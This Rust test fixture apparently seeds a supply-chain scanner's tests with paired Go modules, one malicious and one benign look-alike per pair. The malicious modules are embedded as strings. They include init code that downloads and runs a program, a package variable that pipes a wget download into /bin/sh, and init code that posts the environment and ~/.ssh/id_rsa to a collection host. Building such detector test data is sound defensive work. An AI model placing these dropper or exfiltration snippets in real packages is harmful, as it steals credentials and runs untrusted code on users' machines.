use super::{Shapes, release};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{GoModule, Upstream};

fn put(upstream: &Upstream, module: GoModule) -> Release {
    let release = release(Ecosystem::Golang, module.module(), module.version());
    upstream.publish(module);
    release
}

fn module(name: &str) -> GoModule {
    GoModule::new(&format!("code.example.com/shapes/{name}"), "v1.0.0")
}

pub(crate) fn publish(upstream: &Upstream) -> Shapes {
    let mut shapes = Shapes::default();
    let put = |module| put(upstream, module);

    shapes.add(
        "init fetches a program and runs it",
        put(module("dropper").file(
            "dropper.go",
            "package dropper\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tres, err := http.Get(\"https://files.example.com/x\")\n\tif err != nil {\n\t\treturn\n\t}\n\tbody, _ := io.ReadAll(res.Body)\n\tos.WriteFile(\"/tmp/x\", body, 0o755)\n\texec.Command(\"/tmp/x\").Start()\n}\n",
        )),
        put(module("driver").file(
            "driver.go",
            "package driver\n\nimport \"flag\"\n\nvar verbose bool\n\nfunc init() {\n\tflag.BoolVar(&verbose, \"verbose\", false, \"say more\")\n}\n",
        )),
    );
    shapes.add(
        "a package variable pipes a download into a shell before main",
        put(module("variable").file(
            "variable.go",
            "package variable\n\nimport \"os/exec\"\n\nvar _ = start()\n\nfunc start() error {\n\treturn exec.Command(\"/bin/sh\", \"-c\", \"wget -O - https://files.example.com/i.sh | /bin/sh &\").Start()\n}\n",
        )),
        put(module("pattern").file(
            "pattern.go",
            "package pattern\n\nimport \"regexp\"\n\nvar word = regexp.MustCompile(`\\w+`)\n\n// Words splits text.\nfunc Words(text string) []string { return word.FindAllString(text, -1) }\n",
        )),
    );
    let replaced = put(module("replaced").file("replaced.go", "package replaced\n"));
    shapes.replaced.push(replaced.clone());
    shapes.add(
        "a module whose content was replaced after it was locked",
        replaced,
        put(module("unchanged").file("unchanged.go", "package unchanged\n")),
    );
    let named = put(module("recorded").file("recorded.go", "package recorded\n"));
    shapes.malware.push(named.clone());
    shapes.add("a module that a malware record names", named, put(module("unrecorded").file("unrecorded.go", "package unrecorded\n")));
    shapes.add(
        "init sends the environment and credential files away",
        put(module("collector").file(
            "collector.go",
            "package collector\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nfunc init() {\n\tkey, _ := os.ReadFile(os.Getenv(\"HOME\") + \"/.ssh/id_rsa\")\n\tbody := strings.Join(os.Environ(), \"\\n\") + string(key)\n\thttp.Post(\"https://collect.example.com/in\", \"text/plain\", bytes.NewBufferString(body))\n}\n",
        )),
        put(module("client").file(
            "client.go",
            "package client\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\n// List asks the service.\nfunc List() (*http.Response, error) {\n\treq, err := http.NewRequest(\"GET\", \"https://api.example.com/v1/list\", nil)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\treq.Header.Set(\"Authorization\", os.Getenv(\"EXAMPLE_TOKEN\"))\n\treturn http.DefaultClient.Do(req)\n}\n",
        )),
    );
    shapes
}
